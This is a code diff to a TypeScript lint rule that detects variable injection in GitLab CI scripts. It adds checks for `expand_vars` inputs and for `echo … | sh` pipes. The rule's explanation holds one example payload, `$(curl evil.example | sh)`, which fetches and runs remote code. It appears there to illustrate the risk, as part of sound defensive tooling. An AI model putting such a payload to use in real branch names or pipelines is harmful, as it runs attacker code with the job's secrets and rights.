@@ -1,6 +1,8 @@
 import { z } from 'zod';
+import type { Job } from '../ci/config.ts';
+import { type Located, Place } from '../source.ts';
 import type { CommandWord, JobCommand } from './job-command.ts';
-import { defineRule } from './rule.ts';
+import { defineRule, type Hit } from './rule.ts';
 import { runnerJobs } from './runner-jobs.ts';
 import { commandsOf } from './script-commands.ts';
 import { USER_VARIABLES, userVariableIn } from './user-variables.ts';
@@ -11,8 +13,8 @@ export const variableInjection = defineRule({
   why: 'A branch name or a title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
   fix: 'Give the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
   blindSpots:
-    'Only shells, `eval` and here-documents that a shell runs are looked at, not other interpreters, remote shells or scripts of the repository. Inputs that go through `expand_vars` are taken as the text they give.',
-  keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run'],
+    'Only shells, `eval` and here-documents that a shell runs are looked at, not other interpreters, remote shells or scripts of the repository. Of inputs, only those that `expand_vars` fills into a script are followed.',
+  keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run', 'include:inputs'],
   level: 'warning',
   source: 'https://docs.gitlab.com/ci/pipeline_security/',
   examples: {
@@ -27,10 +29,13 @@ export const variableInjection = defineRule({
   options: z.strictObject({}),
   messages: {
     argument: '{value} stands inside of a text that {program} runs as commands.',
+    input:
+      'GitLab puts the text of {value} into the script itself, by way of {input}, so it needs no shell to become a command.',
     document: '{value} stands inside of a here-document that {program} runs as commands.',
   },
   *check(config) {
     for (const job of runnerJobs(config)) {
+      for (const line of job.scripts.flatMap((script) => script.lines)) yield* expandedInputs(job, line);
       for (const command of commandsOf(job)) {
         for (const word of runTexts(command)) {
           const name = injectedName(word);
@@ -38,6 +43,12 @@ export const variableInjection = defineRule({
           const value = `$${name}`;
           const because = word.from.map((variable) => variable.at);
           yield { at: word.at, job, message: 'argument', value, values: { value, program: command.name }, because };
+        }
+        for (const word of pipedTexts(command)) {
+          const name = injectedName(word);
+          if (name === null) continue;
+          const value = `$${name}`;
+          yield { at: word.at, job, message: 'argument', value, values: { value, program: command.name } };
         }
         if (!SHELLS.has(command.name) || !command.runsText) continue;
         for (const document of [command, ...command.from].flatMap((feeder) => feeder.hereDocuments)) {
@@ -53,6 +64,20 @@ export const variableInjection = defineRule({
   },
 });
 
+/** `$[[ inputs.x | expand_vars ]]` in a script, with an input that names such a variable. */
+function* expandedInputs(job: Job, line: Located<string>): Iterable<Hit> {
+  for (const { by, at: given, name: input } of line.via) {
+    if (by !== 'input' || !/\|\s*expand_vars\b/.test(input)) continue;
+    const name = userVariableIn(given.text) ?? userVariableIn(line.at.text);
+    if (name === null) continue;
+    const offset = line.at.text.indexOf(input);
+    const start = line.at.start + offset;
+    const at = offset === -1 ? line.at : new Place(line.at.file, start, start + input.length);
+    const value = `$${name}`;
+    yield { at: { ...line, at }, job, message: 'input', value, values: { value, input }, because: [given] };
+  }
+}
+
 const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh']);
 
 /** The words that a command reads as commands of their own. */
@@ -62,6 +87,14 @@ function runTexts({ name, words }: JobCommand): readonly CommandWord[] {
   const option = words.findIndex((word) => /^-[a-z]*c$/.test(word.text) || word.text === '--command');
   const script = option === -1 ? undefined : words[option + 1];
   return script ? [script] : [];
+}
+
+/** `echo … | sh`: what is said becomes the commands. */
+function pipedTexts({ name, words, from }: JobCommand): readonly CommandWord[] {
+  const readsInput =
+    SHELLS.has(name) && words.slice(1).every((word) => /^-[a-z]*$/.test(word.text) && !word.text.includes('c'));
+  if (!readsInput) return [];
+  return from.flatMap((feeder) => (/^(?:echo|printf)$/.test(feeder.name) ? feeder.words.slice(1) : []));
 }
 
 /** A variable that the outer shell puts in: by name, or in the value of one that it puts in. */
